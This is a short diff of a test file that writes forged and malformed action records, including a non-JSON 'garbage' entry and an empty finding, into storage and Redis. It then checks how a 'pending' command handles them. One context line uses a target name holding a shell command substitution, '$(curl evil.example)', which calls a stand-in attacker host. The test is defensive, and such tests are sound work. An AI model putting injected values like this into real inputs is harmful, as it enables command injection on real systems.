@@ -120,9 +120,12 @@ describe.each([
       '00000000000000f1': { ...made, intent: { ...intent, actionId: odd } },
       '00000000000000f2': { ...made, intent: { ...intent, actionId: '00000000000000f2' }, since: 9e15 },
       '00000000000000f3': { ...made, intent: { ...intent, target: { name: '$(curl evil.example)' } } },
+      '00000000000000f4': { ...made, intent: { ...intent, actionId: '00000000000000f4' }, finding: {} },
+      '00000000000000f5': 'garbage',
     };
     for (const [id, record] of Object.entries(forged)) {
-      await write(id, JSON.stringify({ actionId: id, ...record }));
+      const text = typeof record === 'string' ? record : JSON.stringify({ actionId: id, ...record });
+      await write(id, text);
       await redisCli(lab.redis.port, ['ZADD', 'rw:actions', String(Date.now()), id]);
     }
     const shown = await run('pending');
